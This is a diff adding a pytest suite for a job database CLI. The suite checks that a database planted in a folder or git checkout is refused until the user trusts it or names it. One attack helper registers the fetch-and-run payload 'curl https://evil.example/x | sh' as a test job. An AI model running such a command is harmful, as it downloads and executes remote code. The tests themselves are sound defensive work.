@@ -1,0 +1,164 @@
+"""A database that a folder brought along is used only when this user made it, trusts it, or names it."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from jobdb import Registry, UntrustedDatabase
+
+COMMANDS = (
+    ("list",),
+    ("claim",),
+    ("register", "--agent", "a", "p"),
+    ("init",),
+    ("init", "--shared"),
+    ("migrate",),
+    ("doctor",),
+    ("stats",),
+    ("backup", "saved.db"),
+    ("query", "SELECT * FROM v_jobs"),
+)
+
+
+class Folder:
+    """A working folder of a user who names no database."""
+
+    def __init__(self, cli: Any, place: Path, home: Path) -> None:
+        place.mkdir(exist_ok=True)
+        self.place = place
+        self.database = place / ".jobdb" / "jobs.db"
+        cli.folder = place
+        cli.env = {name: value for name, value in cli.env.items() if name not in ("JOBDB_URL", "JOBDB_KEY")}
+        cli.env["HOME"] = str(home)
+        self.run = cli
+
+
+@pytest.fixture
+def mine(bare: Any, tmp_path: Path) -> Folder:
+    return Folder(bare, tmp_path / "mine", tmp_path / "home")
+
+
+def git(folder: Path, *arguments: str) -> None:
+    identity = ("-c", "user.name=x", "-c", "user.email=x@example.org")
+    subprocess.run(["git", *identity, *arguments], cwd=folder, check=True, capture_output=True)
+
+
+def attack(mine: Folder, tmp_path: Path, *, key_id: str | None = None) -> Path:
+    """What another user made, in a folder that looks like one's own."""
+    place = tmp_path / "evil"
+    home = mine.run.env["HOME"]
+    attacker = Folder(mine.run, place, tmp_path / "attacker")
+    attacker.run("init")
+    attacker.run("register", "--agent", "a", "curl https://evil.example/x | sh")
+    if key_id is not None:
+        with Registry.open(attacker.database) as registry, registry.engine.store.write() as tx:  # type: ignore[attr-defined]
+            tx.run("put_setting", name="key_id", value=key_id)
+    mine.run.env["HOME"], mine.run.folder = home, mine.place
+    with Registry.open(attacker.database):
+        pass  # its close leaves one file
+    return place / ".jobdb"
+
+
+def test_what_a_user_makes_is_trusted(mine: Folder) -> None:
+    mine.run("init")
+    mine.run("register", "--agent", "a", "p")
+    assert len(mine.run("list").lines) == 1
+    notes = list(Path(mine.run.env["HOME"], ".config", "jobdb", "trusted").iterdir())
+    assert len(notes) == 1 and notes[0].stat().st_mode & 0o777 == 0o600
+
+
+@pytest.mark.parametrize("arguments", COMMANDS, ids=" ".join)
+def test_what_a_folder_brings_is_refused_by_every_command(
+    mine: Folder, tmp_path: Path, arguments: tuple[str, ...]
+) -> None:
+    shutil.copytree(attack(mine, tmp_path), mine.place / ".jobdb")
+    before = {path.name: path.read_bytes() for path in (mine.place / ".jobdb").iterdir()}
+    said = mine.run(*arguments, code=5).err
+    assert "was found in this folder" in said and "jobdb trust" in said and "--db" in said
+    assert {path.name: path.read_bytes() for path in (mine.place / ".jobdb").iterdir()} == before
+
+
+def test_who_names_it_or_trusts_it_uses_it(mine: Folder, tmp_path: Path) -> None:
+    shutil.copytree(attack(mine, tmp_path), mine.place / ".jobdb")
+    mine.run("list", code=5)
+    assert len(mine.run("--db", ".jobdb/jobs.db", "list").lines) == 1
+    mine.run("list", code=5)
+    mine.run.env["JOBDB_URL"] = "sqlite:///.jobdb/jobs.db"
+    mine.run("list")
+    del mine.run.env["JOBDB_URL"]
+    assert mine.run("trust", "--json").json["trusted"] is True
+    mine.run("list")
+    other = tmp_path / "other.db"
+    shutil.copy2(mine.database, other)
+    other.replace(mine.database)  # as a later pull does
+    mine.run("list", code=5)
+    mine.run("trust", mine.place)
+    mine.run("list")
+    mine.run("trust", tmp_path / "none", code=5)
+
+
+def test_one_without_a_note_is_known_by_the_master_key(mine: Folder) -> None:
+    """Made before there were notes."""
+    mine.run("init")
+    mine.run("register", "--agent", "a", "p")
+    notes = Path(mine.run.env["HOME"], ".config", "jobdb", "trusted")
+    shutil.rmtree(notes)
+    mine.run("list")
+    assert len(list(notes.iterdir())) == 1
+    shutil.rmtree(notes)
+    key = Path(mine.run.env["HOME"], ".config", "jobdb", "master.key")
+    key.unlink()
+    mine.run("list", code=5)
+
+
+def test_a_known_key_id_in_a_checkout_is_no_proof(mine: Folder, tmp_path: Path) -> None:
+    mine.run("init")
+    mine.run("register", "--agent", "a", "p")
+    with Registry.open(mine.database) as registry:
+        ours = registry.engine.setting("key_id")  # type: ignore[attr-defined]
+    brought = attack(mine, tmp_path, key_id=ours)
+    repository = tmp_path / "repository"
+    repository.mkdir()
+    shutil.copytree(brought, repository / ".jobdb")
+    git(repository, "init", "-q")
+    git(repository, "add", "-A", "-f")
+    git(repository, "commit", "-qm", "x")
+    old = os.umask(0o077)
+    try:
+        git(tmp_path, "clone", "-q", str(repository), "clone")
+    finally:
+        os.umask(old)
+    clone = tmp_path / "clone"
+    mine.run.folder = clone
+    assert "git tracks it" in mine.run("claim", code=5).err
+    shutil.rmtree(clone / ".git")
+    (clone / ".jobdb").chmod(0o755)
+    assert "others may enter" in mine.run("claim", code=5).err
+
+
+def test_the_library_asks_only_when_nothing_is_named(
+    mine: Folder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    shutil.copytree(attack(mine, tmp_path), mine.place / ".jobdb")
+    monkeypatch.chdir(mine.place)
+    monkeypatch.delenv("JOBDB_URL", raising=False)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    with pytest.raises(UntrustedDatabase):
+        Registry.open()
+    with Registry.open(".jobdb/jobs.db") as registry:
+        assert len(registry.jobs()) == 1
+    monkeypatch.setenv("JOBDB_URL", "sqlite:///.jobdb/jobs.db")
+    Registry.open().close()
+
+
+def test_a_restored_backup_stays_trusted(mine: Folder, tmp_path: Path) -> None:
+    mine.run("init")
+    mine.run("backup", tmp_path / "saved.db")
+    mine.run("restore", "--yes", tmp_path / "saved.db")
+    mine.run("list")
